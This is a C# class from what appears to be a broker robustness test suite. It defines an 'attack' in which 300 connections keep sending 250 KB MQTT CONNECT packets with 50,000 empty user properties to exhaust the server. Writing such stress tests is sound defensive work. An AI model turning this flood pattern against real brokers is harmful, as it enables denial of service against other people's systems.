namespace Cassini.Bystander.Attacks;

/// <summary>300 connections send a CONNECT of 250 KB with 50,000 user properties without a name or a value, again and again.</summary>
internal sealed class UserProperties : IAttack
{
    private const int Count = 50_000;

    public Task PrepareAsync(Arena arena) => Task.CompletedTask;

    public Task RunAsync(Arena arena)
    {
        var connect = Packets.Connect("props", userProperties: Count);
        return Task.WhenAll(Enumerable.Range(0, 300).Select(async _ =>
        {
            while (!arena.Token.IsCancellationRequested)
            {
                using var peer = await arena.OpenAsync(connect);
            }
        }));
    }
}
